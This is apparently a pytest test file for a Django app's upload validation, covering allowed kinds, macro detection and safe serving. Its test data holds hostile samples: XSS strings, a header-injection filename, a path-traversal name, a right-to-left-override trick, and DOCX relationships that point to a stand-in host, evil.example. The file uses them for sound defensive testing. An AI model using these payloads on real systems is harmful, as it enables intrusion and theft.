"""Uploads are accepted by extension *and* content (PDF, DOCX without macros or external links,
JPG, PNG), stored with the extension of the kind their content shows and served as that kind."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.http import parse_header_parameters

from common.files import serve_private_file
from common.models import private_upload_to
from common.uploads import attach_document, detect_kind, download_name, validate_document
from sessions.models import DialogueSession
from tests import factories as f
from tests.conftest import MINIMAL_PDF

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + b"\x00" * 16
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32 + b"\xff\xd9"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PACKAGE_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Biên bản</w:t></w:r></w:p></w:body></w:document>"
)


def docx(*, main=WORD_MAIN, extra_types="", document_rels=None, parts=None) -> bytes:
    members = {
        "[Content_Types].xml": CONTENT_TYPES.format(main=main, extra=extra_types),
        "_rels/.rels": PACKAGE_RELS,
        "word/document.xml": DOCUMENT,
    }
    if document_rels is not None:
        members["word/_rels/document.xml.rels"] = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{document_rels}</Relationships>"
        )
    members.update(parts or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


# ---------------------------------------------------------------------------------------------
# Accepting: extension and content must both be an allowed kind, and agree
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("bien-ban.pdf", MINIMAL_PDF, "pdf"),
        ("BIEN-BAN.PDF", MINIMAL_PDF, "pdf"),
        ("tra-loi.docx", docx(), "docx"),
        ("anh.jpg", JPEG, "jpg"),
        ("anh.jpeg", JPEG, "jpg"),
        ("anh.png", PNG, "png"),
        ("Biên bản họp.pdf", MINIMAL_PDF, "pdf"),
    ],
)
def test_the_allowed_kinds_are_accepted_under_their_own_extensions(name, content, kind):
    assert validate_document(upload(name, content)) == kind


@pytest.mark.parametrize(
    "name",
    [
        "bien-ban.bat",
        "bien-ban.hta",
        "bien-ban.exe",
        "bien-ban.html",
        "bien-ban.htm",
        "bien-ban.svg",
        "bien-ban.js",
        "bien-ban.docm",
        "bien-ban.pdf.exe",
        "bien-ban",
        "\u202efdp.exe",  # shown as "exe.pdf" by a right-to-left override
    ],
)
def test_a_pdf_under_any_other_extension_is_refused(name):
    with pytest.raises(ValidationError) as refusal:
        validate_document(upload(name, MINIMAL_PDF))
    assert "chỉ nhận tệp PDF, DOCX, JPG, PNG" in refusal.value.messages[0]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bien-ban.docx", MINIMAL_PDF),  # content of one allowed kind under another's extension
        ("bien-ban.pdf", docx()),
        ("anh.png", JPEG),
        ("anh.jpg", PNG),
        ("bien-ban.pdf", b"<html><script>alert(1)</script></html>"),
        ("bien-ban.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>"),  # a header, no PDF behind it
        ("bien-ban.pdf", MINIMAL_PDF[:20]),  # truncated
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),  # no header chunk
        ("tra-loi.docx", b"PK\x03\x04" + b"\x00" * 64),
        ("tra-loi.docx", docx(main="application/xml")),  # a zip with the names but not a Word document
    ],
)
def test_content_that_is_not_what_the_extension_says_is_refused(name, content):
    with pytest.raises(ValidationError) as refusal:
        validate_document(upload(name, content))
    assert "không phải là" in refusal.value.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        docx(main=MACRO_MAIN),  # a .docm renamed .docx
        docx(extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        docx(parts={"word/vbaData.xml": "<wne:vbaSuppData/>"}),
        docx(parts={"word/activeX/activeX1.xml": "<ax:ocx/>"}),
    ],
    ids=["vbaProject.bin", "macro-enabled main part", "vbaProject content type", "vbaData.xml", "ActiveX"],
)
def test_a_word_file_with_macros_is_refused(content):
    with pytest.raises(ValidationError) as refusal:
        validate_document(upload("tra-loi.docx", content))
    assert "macro" in refusal.value.messages[0]


@pytest.mark.parametrize(
    ("rels", "where"),
    [
        (
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
            "word/_rels/settings.xml.rels",
        ),
        (
            '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
            " Target='\\\\evil.example\\share\\a.png' TargetMode = 'External'/>",
            "word/_rels/document.xml.rels",
        ),
        (
            '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"'
            ' Target="http://evil.example/o.bin" TargetMode="External"/>',
            "word/_rels/document.xml.rels",
        ),
        (
            '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
            ' Target="http://evil.example/" TargetMode="External"/>',
            "word/_rels/footer1.xml.rels",
        ),
    ],
    ids=["remote template", "remote image", "linked object", "hyperlink"],
)
def test_a_word_file_with_external_relationships_is_refused(rels, where):
    content = docx(
        parts={
            where: '<?xml version="1.0"?><Relationships '
            f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
        }
    )
    with pytest.raises(ValidationError) as refusal:
        validate_document(upload("tra-loi.docx", content))
    assert "liên kết tới nội dung bên ngoài" in refusal.value.messages[0]


def test_a_word_file_with_internal_relationships_only_is_accepted():
    rels = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"'
        ' Target="styles.xml"/>'
    )
    assert validate_document(upload("tra-loi.docx", docx(document_rels=rels, parts={"word/styles.xml": "<w:styles/>"})))


def test_a_real_word_document_from_python_docx_is_accepted():
    from common.docx import new_document, para, to_bytes

    document = new_document()
    para(document, "Văn bản trả lời")
    assert validate_document(upload("tra-loi.docx", to_bytes(document))) == "docx"


# ---------------------------------------------------------------------------------------------
# Storing and serving by the detected kind
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("original", "kind", "expected"),
    [
        ("Biên bản họp.pdf", "pdf", "Biên bản họp.pdf"),
        ("ANH.JPEG", "jpg", "ANH.jpg"),
        ("bien-ban.bat", "pdf", "bien-ban.bat.pdf"),
        ("x\";filename*=utf-8''evil.hta;a=\".pdf", "pdf", "xfilename=utf-8''evil.htaa=.pdf"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("\u202efdp.exe", "pdf", "fdp.exe.pdf"),
        ("a\x00b\r\nc.docx", "docx", "a b c.docx"),
        ("", "png", "tep.png"),
        ("x" * 300 + ".pdf", "pdf", "x" * 146 + ".pdf"),
        ("bien-ban.pdf", None, "bien-ban.bin"),
    ],
)
def test_the_download_name_keeps_the_uploaders_words_with_the_detected_kinds_extension(original, kind, expected):
    assert download_name(original, kind) == expected


@pytest.mark.django_db
def test_an_attached_upload_is_stored_and_named_with_its_detected_kinds_extension(province):
    session = f.DialogueSessionFactory(organising_unit=province.ubnd)
    kind = attach_document(session, "minutes", upload("Biên bản.JPEG", JPEG), name_field="minutes_name")
    session.save()
    session.refresh_from_db()
    assert kind == "jpg"
    assert session.minutes.name.endswith(".jpg") and session.minutes.name.startswith("private/")
    assert "Biên" not in session.minutes.name  # stored under a random name
    assert session.minutes_name == "Biên bản.jpg"


@pytest.mark.parametrize("uploaded", ["a.html", "a.exe", "a.svg", "a", "a.pdf.bat"])
def test_stored_names_never_keep_an_extension_other_than_a_document_kinds(uploaded):
    instance = DialogueSession()
    stored = private_upload_to(instance, uploaded)
    assert stored.startswith("private/dialogue_sessions/dialoguesession/")
    assert "." not in stored.rsplit("/", 1)[-1]


def _stored(session, content: bytes, stored_name: str):
    """A file left by an older release under the uploader's extension."""
    session.minutes.name = default_storage.save(f"private/legacy/{stored_name}", ContentFile(content))
    return session.minutes


def _disposition(response):
    value, params = parse_header_parameters(response["Content-Disposition"])
    return value, params


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "kind_type", "disposition", "extension"),
    [
        (MINIMAL_PDF, "application/pdf", "inline", ".pdf"),
        (PNG, "image/png", "inline", ".png"),
        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "attachment", ".docx"),
        (b"MZ\x90\x00 an old program", "application/octet-stream", "attachment", ".bin"),
        (b"<html><script>alert(1)</script>", "application/octet-stream", "attachment", ".bin"),
    ],
)
def test_a_file_is_served_as_the_kind_its_content_shows_whatever_its_names_say(
    province, content, kind_type, disposition, extension
):
    session = f.DialogueSessionFactory(organising_unit=province.ubnd)
    field_file = _stored(session, content, "bien-ban.bat")
    response = serve_private_file(field_file, "bien-ban.bat\";filename*=utf-8''evil.hta;a=\"")
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == kind_type
    value, params = _disposition(response)
    assert value == disposition
    assert params["filename"].endswith(extension)
    assert not params["filename"].endswith((".bat", ".hta"))
    assert set(params) == {"filename"}  # nothing injected next to it
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("content", "kind"),
    [(MINIMAL_PDF, "pdf"), (PNG, "png"), (JPEG, "jpg"), (docx(), "docx"), (b"PK\x03\x04junk", None), (b"", None)],
)
def test_detect_kind_reads_the_first_bytes_and_the_zip_directory(content, kind):
    assert detect_kind(io.BytesIO(content)) == kind


def test_the_form_field_checks_a_new_upload_and_leaves_a_stored_file_alone():
    from common.forms import DocumentField

    field = DocumentField(required=False)
    with pytest.raises(ValidationError):
        field.clean(upload("bien-ban.bat", MINIMAL_PDF))
    assert field.clean(upload("bien-ban.pdf", MINIMAL_PDF)).name == "bien-ban.pdf"

    class Stored:  # a FieldFile already on the record (an admin form saved unchanged)
        name = "private/legacy/bien-ban"

        def __bool__(self):
            return True

    stored = Stored()
    assert field.clean(None, initial=stored) is stored


def test_the_admin_checks_uploaded_documents_like_the_screens():
    from django.contrib import admin
    from django.test import RequestFactory

    from common.forms import DocumentField
    from sessions.models import ConclusionNotice

    model_admin = admin.site._registry[ConclusionNotice]
    request = RequestFactory().get("/")
    field = model_admin.formfield_for_dbfield(ConclusionNotice._meta.get_field("signed_file"), request)
    assert isinstance(field, DocumentField)
